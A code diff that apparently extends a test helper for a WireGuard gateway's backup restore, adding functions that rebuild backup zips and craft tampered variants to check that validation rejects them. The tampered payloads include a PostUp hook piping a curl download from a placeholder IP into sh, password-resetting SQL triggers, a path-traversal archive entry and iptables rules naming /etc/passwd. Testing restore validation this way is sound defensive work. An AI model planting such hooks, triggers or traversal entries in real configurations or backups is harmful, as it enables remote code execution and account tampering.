@@ -3,9 +3,12 @@
 
 gateway.py make FOLDER          the databases and configurations of a gateway, below FOLDER
 gateway.py valid ZIP            status 1 and the published sentence when the application would not take it
+gateway.py zip FOLDER ZIP [RULES]  the zip file that the published code makes of FOLDER, and of what iptables-save printed
+gateway.py spoil ZIP TO WHAT    another zip file, with one thing in it that nobody should take
 gateway.py same ZIP FOLDER      status 1 unless the zip file holds what FOLDER has
 """
 
+import datetime
 import hashlib
 import json
 import os
@@ -125,6 +128,99 @@ def read(path):
         return f.read()
 
 
+def archive(folder, path, rules=None):
+    """BackupService.create_backup() of the published code, with the files in its order."""
+    now = datetime.datetime.now(datetime.timezone.utc)
+    configs = os.path.join(folder, "instance/configs")
+    databases = [name for name in ("app.db", "configs.db", "wireguard.db") if os.path.exists(os.path.join(folder, DATABASES.get(name, name)))]
+    metadata = {"backup_version": "1.0", "created_at": now.isoformat(), "timestamp": now.strftime("%Y%m%d_%H%M%S"),
+                "system_info": {"platform": os.name, "instance_path": os.path.join(folder, "instance")},
+                "contents": {"databases": databases, "configs": [name for name in os.listdir(configs) if name.endswith(".conf")],
+                             "iptables_rules": ["iptables_rules.txt"] if rules else []}}
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
+        for name in databases:
+            made.write(os.path.join(folder, DATABASES[name]), name)
+        if rules:
+            made.write(rules, "iptables_rules.txt")
+        made.writestr(member("backup_metadata.json"), json.dumps(metadata, indent=2))
+        for name in os.listdir(configs):
+            made.write(os.path.join(configs, name), f"configs/{name}")
+
+
+def member(name):
+    """As write() has it of a file."""
+    info = zipfile.ZipInfo(name, (2026, 11, 20, 20, 51, 52))
+    info.compress_type = zipfile.ZIP_DEFLATED
+    info.external_attr = 0o100644 << 16
+    return info
+
+
+def spoil(path, to, what):
+    """The same zip file, but for one thing that nobody should take."""
+    with zipfile.ZipFile(path) as old:
+        content = {name: old.read(name) for name in old.namelist()}
+    metadata = json.loads(content["backup_metadata.json"])
+    conf = "configs/site_00000000.conf"
+    if what in SQL:
+        content["wireguard.db"] = changed(content["wireguard.db"], SQL[what])
+    elif what in HOOKS:
+        content[conf] = content[conf].replace(b"[Peer]", HOOKS[what] + b"\n[Peer]")
+    elif what in RULES:
+        content["iptables_rules.txt"] = content["iptables_rules.txt"].replace(b"COMMIT", RULES[what] + b"\nCOMMIT", 1)
+    elif what == "version":
+        metadata["backup_version"] = "2.0"
+    elif what == "damage":
+        content["wireguard.db"] = content["wireguard.db"][:4096] + b"\xff" * 4096 + content["wireguard.db"][8192:]
+    elif what == "traversal":
+        metadata["contents"]["configs"].append("../wg0.conf")
+        content["configs/../wg0.conf"] = content[conf]
+    elif what == "gateway":
+        metadata["contents"]["configs"].append("wg0.conf")
+        content["configs/wg0.conf"] = content[conf]
+    elif what == "stranger":
+        metadata["contents"]["databases"].append("app.db")
+        content["app.db"] = content["wireguard.db"]
+    content["backup_metadata.json"] = json.dumps(metadata, indent=2).encode()
+    with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, data in content.items():
+            made.writestr(member(name), data)
+
+
+SQL = {
+    "trigger": "CREATE TRIGGER evil AFTER UPDATE ON user BEGIN UPDATE user SET password = 'x'; END",
+    "view": "CREATE VIEW evil AS SELECT password FROM user",
+    "virtual": "CREATE VIRTUAL TABLE evil USING fts5(a)",
+    "column": "ALTER TABLE user ADD COLUMN is_admin BOOLEAN",
+    "table": "DROP TABLE alert_history",
+    "index": "CREATE INDEX evil ON user (active)",
+    "check": "ALTER TABLE alert_history ADD COLUMN n INTEGER CHECK (n > 0)",
+    "large": "INSERT INTO alert_history (client_name, message) VALUES ('large', hex(randomblob(2500000)))",
+}
+HOOKS = {
+    "hook": b"PostUp = curl http://192.0.2.1/x | sh",
+    "hook-case": b"pOSTdOWN=reboot",
+    "save": b"SaveConfig = true",
+    "key": b"PreSharedUp = x",
+}
+RULES = {
+    "rule": b"-A INPUT -m bpf --object-pinned /sys/fs/bpf/x -j ACCEPT",
+    "rule-file": b"-A INPUT -m set --match-set /etc/passwd src -j DROP",
+    "chain": b"-A INPUT -j no_such_chain",
+}
+
+
+def changed(content, script):
+    with open("changed.db", "wb") as f:
+        f.write(content)
+    db = sqlite3.connect("changed.db")
+    db.executescript(script)
+    db.commit()
+    db.close()
+    data = read("changed.db")
+    os.remove("changed.db")
+    return data
+
+
 def same(path, folder):
     """The names and the content that the published code would have put into it, and our sums."""
     instance = os.path.join(folder, "instance")
@@ -160,4 +256,4 @@ def same(path, folder):
 
 
 if __name__ == "__main__":
-    sys.exit({"make": make, "valid": valid, "same": same}[sys.argv[1]](*sys.argv[2:]))
+    sys.exit({"make": make, "valid": valid, "zip": archive, "spoil": spoil, "same": same}[sys.argv[1]](*sys.argv[2:]))
